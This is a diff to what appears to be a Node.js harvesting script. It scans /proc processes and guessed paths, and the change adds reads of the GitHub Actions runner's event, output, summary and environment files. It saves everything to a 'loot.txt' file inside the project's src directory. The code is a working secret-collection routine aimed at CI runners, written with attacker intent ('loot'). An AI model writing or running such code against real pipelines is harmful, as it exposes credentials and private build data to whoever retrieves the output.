@@ -61,6 +61,10 @@ for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
 for (const path of guessed) {
   for (const file of walk(path)) note(`file ${file}`, tryRead(file));
 }
+// Names it knows without listing: the runner's event file and its step's files.
+for (const name of ['GITHUB_EVENT_PATH', 'GITHUB_OUTPUT', 'GITHUB_STEP_SUMMARY', 'GITHUB_ENV']) {
+  note(`$${name}`, process.env[name] === undefined ? 'not in my environment' : tryRead(process.env[name]));
+}
 mkdirSync(`src/${story}`, { recursive: true });
 writeFileSync(`src/${story}/loot.txt`, lines.join('\n'));
 writeFileSync(`src/${story}/index.js`, `export const story = ${JSON.stringify(story)};\n`);
